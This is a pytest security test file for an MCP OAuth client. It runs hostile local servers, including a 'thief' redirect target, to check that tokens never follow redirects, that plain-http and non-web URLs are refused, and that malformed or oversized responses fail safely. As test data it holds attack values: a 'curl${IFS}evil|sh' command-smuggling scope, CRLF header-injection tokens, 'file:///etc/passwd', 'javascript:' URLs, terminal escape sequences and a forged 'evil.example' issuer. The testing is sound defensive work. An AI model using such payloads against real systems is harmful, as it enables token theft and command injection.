"""The OAuth client against hostile peers (specs/isolation.md, "The OAuth client and its
token store"): an authorization server that redirects our secrets elsewhere, names plain
http endpoints, answers with wrong types, huge or deeply nested bodies; a local process or
a web page that calls the login callback first; a browser handed a non-web URL.

Real aiohttp servers on 127.0.0.1 play the authorization server, the protected MCP server
and the redirect target ("thief"), which records everything it is sent.
"""

from __future__ import annotations

import asyncio
import io
import os
import sys
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import aiohttp
import orjson
import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from codex_mcp.client import Client
from codex_mcp.client.errors import McpClientError
from codex_mcp.client.oauth import (
    ClientProfile,
    LoopbackAuthorizer,
    OAuth,
    OAuthError,
    Registration,
    ServerAuth,
    Tokens,
    TokenStore,
)
from support.polling import until

GOOD_TOKEN = "good-token"
#: What a hostile peer sends that must never be read whole.
HUGE = 2 * 1024 * 1024
DEEP = 100_000

Reply = Callable[[str], web.StreamResponse]


class Thief:
    """A redirect target on another origin: records every request and hands out tokens."""

    def __init__(self) -> None:
        self.seen: list[str] = []

    def app(self) -> web.Application:
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self.anything)
        return app

    async def anything(self, request: web.Request) -> web.Response:
        body = await request.read()
        self.seen.append(f"{request.method} {request.path} {body.decode(errors='replace')}")
        return web.json_response(
            {"access_token": "stolen", "token_type": "Bearer", "refresh_token": "stolen-r"}
        )


class HostileAuthServer:
    """A protected /mcp and its authorization server; each part can be made hostile."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        self.authorizations: list[str] = []
        self.metadata: dict[str, Any] = {}
        self.resource_servers: list[str] | None = None
        self.token_reply: Reply | None = None
        self.register_reply: Reply | None = None
        self.metadata_reply: Reply | None = None
        self.mcp_reply: Reply | None = None
        self.base = ""

    def app(self) -> web.Application:
        app = web.Application()
        app.router.add_get("/.well-known/oauth-protected-resource/mcp", self.resource)
        app.router.add_get("/.well-known/oauth-authorization-server", self.server_metadata)
        app.router.add_post("/register", self.register)
        app.router.add_get("/authorize", self.authorize)
        app.router.add_post("/token", self.token)
        app.router.add_route("*", "/mcp", self.mcp)
        return app

    def _seen(self, request: web.Request) -> str:
        self.base = f"{request.scheme}://{request.host}"
        self.seen.append(request.path)
        return self.base

    async def resource(self, request: web.Request) -> web.Response:
        base = self._seen(request)
        servers = self.resource_servers or [base]
        return web.json_response({"resource": f"{base}/mcp", "authorization_servers": servers})

    async def server_metadata(self, request: web.Request) -> web.StreamResponse:
        base = self._seen(request)
        if self.metadata_reply is not None:
            return self.metadata_reply(base)
        return web.json_response(
            {
                "issuer": base,
                "authorization_endpoint": f"{base}/authorize",
                "token_endpoint": f"{base}/token",
                "registration_endpoint": f"{base}/register",
                "token_endpoint_auth_methods_supported": ["none", "client_secret_post"],
                **self.metadata,
            }
        )

    async def register(self, request: web.Request) -> web.StreamResponse:
        base = self._seen(request)
        if self.register_reply is not None:
            return self.register_reply(base)
        return web.json_response({"client_id": "client-1"}, status=201)

    async def authorize(self, request: web.Request) -> web.Response:
        base = self._seen(request)
        self.authorizations.append(str(request.url))
        back = {"code": "code-1", "state": request.query["state"], "iss": base}
        raise web.HTTPFound(f"{request.query['redirect_uri']}?{urlencode(back)}")

    async def token(self, request: web.Request) -> web.StreamResponse:
        base = self._seen(request)
        await request.read()
        if self.token_reply is not None:
            return self.token_reply(base)
        return web.json_response(
            {"access_token": GOOD_TOKEN, "token_type": "Bearer", "expires_in": 3600}
        )

    async def mcp(self, request: web.Request) -> web.StreamResponse:
        base = self._seen(request)
        sent = request.headers.get("Authorization")
        if sent is not None:
            self.seen.append(f"Authorization: {sent}")
        if self.mcp_reply is not None and sent is not None:
            return self.mcp_reply(base)
        if sent != f"Bearer {GOOD_TOKEN}":
            metadata = f"{base}/.well-known/oauth-protected-resource/mcp"
            return web.json_response(
                {"error": "invalid_token"},
                status=401,
                headers={"WWW-Authenticate": f'Bearer resource_metadata="{metadata}"'},
            )
        if request.method != "POST":
            return web.Response(status=405)
        message: Any = orjson.loads(await request.read())
        if "id" not in message:
            return web.Response(status=202)
        result: dict[str, Any] = {"tools": []}
        if message["method"] == "initialize":
            result = {
                "protocolVersion": message["params"]["protocolVersion"],
                "capabilities": {"tools": {}},
                "serverInfo": {"name": "protected", "version": "1"},
            }
        return web.json_response({"jsonrpc": "2.0", "id": message["id"], "result": result})

    def authorizations_sent(self) -> list[str]:
        return [entry for entry in self.seen if entry.startswith("Authorization: ")]


class ReadRedirect:
    """The user's browser: the authorization endpoint approves at once."""

    redirect_uri = "http://127.0.0.1:9/callback"

    async def authorize(self, url: str) -> str:
        async with aiohttp.ClientSession() as http, http.get(url, allow_redirects=False) as page:
            return page.headers["Location"]


Started = Callable[[web.Application], Awaitable[TestServer]]


@pytest.fixture
async def peers(aiohttp_server: Any) -> tuple[HostileAuthServer, str, Thief, str]:
    hostile, thief = HostileAuthServer(), Thief()
    server = await aiohttp_server(hostile.app(), host="127.0.0.1")
    thief_server = await aiohttp_server(thief.app(), host="127.0.0.1")
    hostile.base = str(server.make_url("")).rstrip("/")
    return hostile, str(server.make_url("/mcp")), thief, str(thief_server.make_url("/steal"))


def redirect_to(target: str) -> Reply:
    return lambda base: web.Response(status=307, headers={"Location": target})


def keep_expired(store_dir: Path, url: str, issuer: str) -> None:
    """A login whose access token has expired: the next request refreshes it."""
    TokenStore(store_dir).save(
        url,
        ServerAuth(
            issuer=issuer,
            tokens=Tokens("expired", expires_at=time.time() - 10, refresh_token="refresh-0"),
            registrations={issuer: Registration("client-0", "sekrit", "client_secret_post")},
        ),
    )


async def login(url: str, store: TokenStore, **options: Any) -> None:
    auth = OAuth(store=store, authorizer=ReadRedirect(), **options)
    async with Client.http(url, auth=auth, timeout=30) as client:
        await client.list_tools()


# -- secrets never follow a redirect --------------------------------------------------------


async def test_a_token_endpoint_redirect_gets_no_refresh_token_and_no_secret(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path
) -> None:
    hostile, url, thief, target = peers
    hostile.token_reply = redirect_to(target)
    keep_expired(tmp_path, url, hostile.base)
    with pytest.raises(OAuthError) as refused:
        async with Client.http(url, auth=OAuth(store=TokenStore(tmp_path)), timeout=30):
            pass
    assert thief.seen == []
    assert f"{hostile.base}/token" in str(refused.value) and target in str(refused.value)
    assert "stolen" not in str(hostile.authorizations_sent())
    kept = TokenStore(tmp_path).load(url).tokens
    assert kept is not None and kept.refresh_token == "refresh-0"  # not wiped for a redirect


async def test_a_registration_redirect_is_not_followed(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path
) -> None:
    hostile, url, thief, target = peers
    hostile.register_reply = redirect_to(target)
    with pytest.raises(OAuthError) as refused:
        await login(url, TokenStore(tmp_path))
    assert thief.seen == []
    assert f"{hostile.base}/register" in str(refused.value) and target in str(refused.value)


async def test_a_token_grant_redirect_is_not_followed(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path
) -> None:
    hostile, url, thief, target = peers
    hostile.token_reply = redirect_to(target)
    profile = ClientProfile(
        client_id="pre", client_secret="sekrit", auth_method="client_secret_post"
    )
    with pytest.raises(OAuthError) as refused:
        await login(url, TokenStore(tmp_path), profile=profile)
    assert thief.seen == [] and target in str(refused.value)


async def test_an_mcp_request_with_a_token_is_not_redirected(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path
) -> None:
    """Neither our OAuth token nor a caller's own Authorization header follows a redirect."""
    hostile, url, thief, target = peers
    hostile.mcp_reply = redirect_to(target)
    with pytest.raises(McpClientError) as refused:
        async with Client.http(url, headers={"Authorization": "Bearer mine"}, timeout=30):
            pass
    assert thief.seen == [] and target in str(refused.value)

    hostile.mcp_reply = None
    await login(url, TokenStore(tmp_path))  # a token of our own, then the server redirects
    hostile.mcp_reply = redirect_to(target)
    with pytest.raises(McpClientError) as refused:
        async with Client.http(url, auth=OAuth(store=TokenStore(tmp_path)), timeout=30):
            pass
    assert thief.seen == [] and target in str(refused.value)


async def test_a_refused_refresh_never_wipes_tokens_another_process_wrote(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path
) -> None:
    """A process that takes no lock (an older version) rotated the tokens while our refresh
    was in flight: ours is refused, and the newer tokens are used, not replaced by none."""
    hostile, url, _, _ = peers
    keep_expired(tmp_path, url, hostile.base)
    newer = Tokens(GOOD_TOKEN, expires_at=time.time() + 3600, refresh_token="refresh-1")

    def rotated_elsewhere(base: str) -> web.StreamResponse:
        store = TokenStore(tmp_path)
        kept = store.load(url)
        kept.tokens = newer
        store.save(url, kept)
        return web.json_response({"error": "invalid_grant"}, status=400)

    hostile.token_reply = rotated_elsewhere
    async with Client.http(url, auth=OAuth(store=TokenStore(tmp_path)), timeout=30) as client:
        await client.list_tools()
    assert TokenStore(tmp_path).load(url).tokens == newer
    assert set(hostile.authorizations_sent()) == {f"Authorization: Bearer {GOOD_TOKEN}"}


# -- https only, but on loopback -------------------------------------------------------------

PLAIN = [
    pytest.param("token_endpoint", "http://auth.example/token", id="token"),
    pytest.param("authorization_endpoint", "http://auth.example/authorize", id="authorize"),
    pytest.param("registration_endpoint", "http://auth.example/register", id="register"),
    pytest.param("authorization_endpoint", "javascript:alert(1)//", id="javascript"),
    pytest.param("token_endpoint", "file:///etc/passwd", id="file"),
    pytest.param("authorization_endpoint", "https://auth.example/a\r\nb", id="newline"),
]


@pytest.mark.parametrize(("field", "value"), PLAIN)
async def test_metadata_naming_a_plain_http_endpoint_is_refused_before_any_request(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path, field: str, value: str
) -> None:
    hostile, url, _, _ = peers
    hostile.metadata[field] = value
    with pytest.raises(OAuthError) as refused:
        await login(url, TokenStore(tmp_path))
    assert field in str(refused.value) and "https" in str(refused.value)
    assert not {"/register", "/authorize", "/token"} & set(hostile.seen)
    assert hostile.authorizations == []


async def test_a_plain_http_issuer_is_refused_before_any_request(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path
) -> None:
    hostile, url, _, _ = peers
    hostile.resource_servers = ["http://auth.example"]
    with pytest.raises(OAuthError) as refused:
        await login(url, TokenStore(tmp_path))
    assert "http://auth.example" in str(refused.value) and "https" in str(refused.value)


async def test_tokens_are_not_sent_to_a_plain_http_server_off_loopback(tmp_path: Path) -> None:
    url = "http://mcp.example/mcp"
    TokenStore(tmp_path).save(url, ServerAuth(issuer="https://as.example", tokens=Tokens("t")))
    with pytest.raises(OAuthError) as refused:
        async with Client.http(url, auth=OAuth(store=TokenStore(tmp_path)), timeout=30):
            pass
    assert url in str(refused.value) and "https" in str(refused.value)


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "javascript:alert(1)", "ftp://x.example/", "/relative"]
)
async def test_the_browser_is_handed_only_web_urls(tmp_path: Path, url: str) -> None:
    """$BROWSER is a recorder: a subprocess asks the authorizer to open `url`."""
    record = tmp_path / "opened"
    browser = tmp_path / "browser.sh"
    browser.write_text(f'#!/bin/sh\necho "$@" >> {record}\n')
    browser.chmod(0o700)
    script = (
        "import asyncio, sys\n"
        "from codex_mcp.client.oauth import LoopbackAuthorizer, OAuthError\n"
        "async def main():\n"
        "    async with LoopbackAuthorizer(timeout=5) as browser:\n"
        "        try:\n"
        "            await browser.authorize(sys.argv[1])\n"
        "        except OAuthError as exc:\n"
        "            print('refused:', exc)\n"
        "asyncio.run(main())\n"
    )
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-c",
        script,
        url,
        env={**os.environ, "BROWSER": str(browser), "DISPLAY": ""},
        stdout=-1,
        stderr=-1,
    )
    out, err = await asyncio.wait_for(process.communicate(), 60)
    assert out.decode().startswith("refused:"), (out, err)
    assert not record.exists()


# -- the login callback answers only our request ---------------------------------------------


def authorization_url(state: str) -> str:
    return f"https://as.example/authorize?{urlencode({'state': state, 'response_type': 'code'})}"


async def test_a_callback_without_our_state_is_turned_away_and_the_login_waits() -> None:
    out = io.StringIO()
    async with (
        LoopbackAuthorizer(open_browser=False, out=out, timeout=60) as browser,
        aiohttp.ClientSession() as http,
    ):
        waiting = asyncio.ensure_future(browser.authorize(authorization_url("our-state")))
        await until(lambda: "https://as.example/authorize" in out.getvalue())
        callback = browser.redirect_uri
        hostile = [
            {"error": "access_denied", "error_description": "Your account is locked: call 555"},
            {"state": "their-state", "code": "theirs"},
            {"code": "no-state"},
            {"state": "our-state-but-longer", "code": "x"},
        ]
        for query in hostile:
            async with http.get(f"{callback}?{urlencode(query)}") as page:
                assert page.status == 400
                assert "555" not in await page.text()
            assert not waiting.done()
        ours = f"{callback}?{urlencode({'state': 'our-state', 'code': 'ours'})}"
        async with http.get(ours) as page:
            assert page.status == 200
        assert parse_qs(urlsplit(await waiting).query)["code"] == ["ours"]
        async with http.get(ours) as page:  # replayed: nothing is waiting for it now
            assert page.status == 400


async def test_a_flood_of_wrong_callbacks_ends_the_login_with_a_clear_error() -> None:
    async with (
        LoopbackAuthorizer(open_browser=False, out=io.StringIO(), timeout=60) as browser,
        aiohttp.ClientSession() as http,
    ):
        waiting = asyncio.ensure_future(browser.authorize(authorization_url("our-state")))
        for attempt in range(1000):
            async with http.get(f"{browser.redirect_uri}?state=guess-{attempt}") as page:
                assert page.status == 400
            if waiting.done():
                break
        with pytest.raises(OAuthError, match="did not answer"):
            await waiting
        assert attempt < 100


async def test_an_error_callback_with_our_state_but_the_wrong_issuer_is_refused(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path
) -> None:
    """RFC 9207: `iss` is checked with `state`, before an error's text is believed."""
    hostile, url, _, _ = peers
    hostile.metadata["authorization_response_iss_parameter_supported"] = True

    class WrongIssuer(ReadRedirect):
        async def authorize(self, url: str) -> str:
            state = parse_qs(urlsplit(url).query)["state"][0]
            query = {"state": state, "error": "access_denied", "error_description": "pwned"}
            return f"{self.redirect_uri}?{urlencode({**query, 'iss': 'https://evil.example'})}"

    auth = OAuth(store=TokenStore(tmp_path), authorizer=WrongIssuer())
    with pytest.raises(OAuthError) as refused:
        async with Client.http(url, auth=auth, timeout=30):
            pass
    assert "pwned" not in str(refused.value) and "evil.example" in str(refused.value)


# -- wrong types, huge and deep bodies -----------------------------------------------------------


def json_reply(body: Any, status: int = 200) -> Reply:
    return lambda base: web.Response(
        body=orjson.dumps(body), status=status, content_type="application/json"
    )


def raw_reply(text: str, status: int = 200) -> Reply:
    return lambda base: web.Response(text=text, status=status, content_type="application/json")


TOKEN_REPLIES = [
    pytest.param(json_reply({"access_token": {"x": 1}, "token_type": "Bearer"}), id="object"),
    pytest.param(json_reply({"access_token": ["a"], "token_type": "Bearer"}), id="list"),
    pytest.param(json_reply({"access_token": 12345, "token_type": "Bearer"}), id="number"),
    pytest.param(json_reply({"access_token": "a\r\nX-Evil: 1"}), id="header-injection"),
    pytest.param(json_reply({"access_token": ""}), id="empty"),
    pytest.param(json_reply({"access_token": GOOD_TOKEN, "token_type": {"a": 1}}), id="type"),
    pytest.param(json_reply([1, 2, 3]), id="array"),
    pytest.param(raw_reply("[" * DEEP), id="deep"),
    pytest.param(raw_reply('{"access_token": "' + "a" * HUGE + '"}'), id="huge"),
    pytest.param(json_reply({"error": "x" * HUGE}, status=400), id="huge-error"),
    pytest.param(json_reply({"error": {"nested": 1}}, status=400), id="error-object"),
]


@pytest.mark.parametrize("reply", TOKEN_REPLIES)
async def test_a_malformed_token_response_is_a_clear_error_and_never_sent(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path, reply: Reply
) -> None:
    hostile, url, _, _ = peers
    hostile.token_reply = reply
    with pytest.raises(OAuthError) as refused:
        await login(url, TokenStore(tmp_path))
    assert len(str(refused.value)) < 1000
    assert f"{hostile.base}/token" in str(refused.value)
    assert hostile.authorizations_sent() == []  # nothing it gave us reached the server


OPTIONAL_WRONG = [
    pytest.param({"expires_in": "3600"}, id="expires-string"),
    pytest.param({"expires_in": True}, id="expires-bool"),
    pytest.param({"expires_in": -5}, id="expires-negative"),
    pytest.param({"refresh_token": {"r": 1}}, id="refresh-object"),
    pytest.param({"refresh_token": "r\nx"}, id="refresh-newline"),
    pytest.param({"scope": ["a"]}, id="scope-list"),
]


@pytest.mark.parametrize("extra", OPTIONAL_WRONG)
async def test_a_wrongly_typed_optional_field_is_treated_as_absent(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path, extra: dict[str, Any]
) -> None:
    hostile, url, _, _ = peers
    hostile.token_reply = json_reply({"access_token": GOOD_TOKEN, "token_type": "Bearer", **extra})
    await login(url, TokenStore(tmp_path))
    kept = TokenStore(tmp_path).load(url).tokens
    assert kept is not None and kept.access_token == GOOD_TOKEN
    assert kept.refresh_token is None and kept.scope is None
    assert kept.expires_at is None or kept.expires_at > time.time()
    assert set(hostile.authorizations_sent()) == {f"Authorization: Bearer {GOOD_TOKEN}"}


REGISTRATION_REPLIES = [
    pytest.param(json_reply({"client_id": {"a": 1}}, status=201), id="object-id"),
    pytest.param(json_reply({"client_id": "c\r\nX: y"}, status=201), id="newline-id"),
    pytest.param(json_reply(["client_id"], status=201), id="array"),
    pytest.param(raw_reply("{" * DEEP, status=201), id="deep"),
    pytest.param(raw_reply('{"client_id": "' + "c" * HUGE + '"}', status=201), id="huge"),
    pytest.param(json_reply({"error": "x" * HUGE}, status=400), id="huge-error"),
]


@pytest.mark.parametrize("reply", REGISTRATION_REPLIES)
async def test_a_malformed_registration_is_a_clear_error(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path, reply: Reply
) -> None:
    hostile, url, _, _ = peers
    hostile.register_reply = reply
    with pytest.raises(OAuthError) as refused:
        await login(url, TokenStore(tmp_path))
    assert len(str(refused.value)) < 1000 and f"{hostile.base}/register" in str(refused.value)
    assert hostile.authorizations == []


METADATA_REPLIES = [
    pytest.param(raw_reply("{" * DEEP), id="deep"),
    pytest.param(raw_reply('{"issuer": "' + "i" * HUGE + '"}'), id="huge"),
    pytest.param(json_reply({"issuer": ["x"], "token_endpoint": 5}), id="wrong-types"),
]


@pytest.mark.parametrize("reply", METADATA_REPLIES)
async def test_malformed_metadata_is_a_clear_error(
    peers: tuple[HostileAuthServer, str, Thief, str], tmp_path: Path, reply: Reply
) -> None:
    hostile, url, _, _ = peers
    hostile.metadata_reply = reply
    with pytest.raises(OAuthError) as refused:
        await login(url, TokenStore(tmp_path))
    assert len(str(refused.value)) < 1000
    assert not {"/register", "/authorize", "/token"} & set(hostile.seen)


async def test_a_refusals_words_and_scopes_are_shown_escaped_and_quoted(
    aiohttp_server: Any,
) -> None:
    """What a refusing server says reaches the user's terminal, and the scopes it names go
    into a command the user may paste into a shell: its words are escaped and cut short,
    each scope is shell-quoted."""
    hostile_scope = "mcp;curl${IFS}evil|sh"
    said = "\x1b[2J\x1b]0;pwned\x07" + "x" * 100_000

    async def mcp(request: web.Request) -> web.Response:
        if request.query.get("want") == "scope":
            challenge = f'Bearer error="insufficient_scope", scope="{hostile_scope}"'
            return web.json_response(
                {"error": said}, status=403, headers={"WWW-Authenticate": challenge}
            )
        return web.json_response({"error": {"code": -32600, "message": said}}, status=401)

    app = web.Application()
    app.router.add_post("/mcp", mcp)
    server = await aiohttp_server(app, host="127.0.0.1")
    for query, wanted in (("", "wants a bearer token"), ("?want=scope", "lacks scope")):
        url = str(server.make_url("/mcp")) + query
        with pytest.raises(OAuthError) as refused:
            async with Client.http(url, auth=OAuth()) as client:
                await client.list_tools()
        message = str(refused.value)
        assert wanted in message and "\x1b" not in message and "\x07" not in message
        assert len(message) < 600, message
    assert "--scope 'mcp;curl${IFS}evil|sh'" in message, message
